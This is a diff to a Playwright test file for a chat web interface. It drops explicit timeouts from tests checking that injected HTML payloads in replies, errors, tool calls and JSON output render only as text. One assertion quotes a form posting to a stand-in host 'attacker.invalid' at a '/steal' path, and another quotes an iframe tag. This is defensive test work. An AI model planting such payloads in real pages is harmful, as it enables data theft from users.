@@ -61,7 +61,7 @@ def test_a_backend_error_renders_nothing_live_anywhere_on_the_page(page: Page, t
     with app as (url, _):
         page.goto(url)
         send(page, "Hello")
-        expect(page.locator("#pane-1-metrics")).to_contain_text("finish: error", timeout=15_000)
+        expect(page.locator("#pane-1-metrics")).to_contain_text("finish: error")
         page.wait_for_timeout(1000)
         assert_nothing_live(page, requests, scope="body")
 
@@ -72,8 +72,8 @@ def test_payloads_in_a_reply_a_user_message_and_an_error_render_as_text(page: Pa
         page.goto(url)
         send(page, PAYLOADS[0] + " " + PAYLOADS[2])
         chat = page.locator("#pane-0-chat")
-        expect(chat).to_contain_text("Done.", timeout=15_000)
-        expect(page.locator("#pane-1-metrics")).to_contain_text("finish: error", timeout=15_000)
+        expect(chat).to_contain_text("Done.")
+        expect(page.locator("#pane-1-metrics")).to_contain_text("finish: error")
         expect(chat).to_contain_text('<form action="http://attacker.invalid:9/steal">')  # shown, as text
         expect(page.locator("#pane-1-chat")).to_contain_text("<iframe src=")
         page.wait_for_timeout(500)  # let any image, frame or refresh fire
@@ -88,7 +88,7 @@ def test_payloads_in_tool_calls_and_json_mode_render_as_text(page: Page, tgi_ser
         choose_mode(page, "Function calling")
         expect(page.locator("#system-prompt textarea").first).to_have_value(re.compile("function calling AI"))
         send(page, "Call the tools")
-        expect(page.locator("#pane-0-metrics")).to_contain_text("tool call", timeout=15_000)
+        expect(page.locator("#pane-0-metrics")).to_contain_text("tool call")
         for title in page.locator("#pane-0-chat button", has_text="invalid").all()[:3]:
             title.click()  # open tool steps: their bodies render too
         assert_nothing_live(page, requests)
@@ -99,6 +99,6 @@ def test_payloads_in_tool_calls_and_json_mode_render_as_text(page: Page, tgi_ser
         page.goto(url)
         choose_mode(page, "JSON mode")
         send(page, "Describe a character")
-        expect(page.locator("#pane-0-chat")).to_contain_text("JSON ❌ invalid", timeout=15_000)
+        expect(page.locator("#pane-0-chat")).to_contain_text("JSON ❌ invalid")
         page.wait_for_timeout(500)
         assert_nothing_live(page, requests)
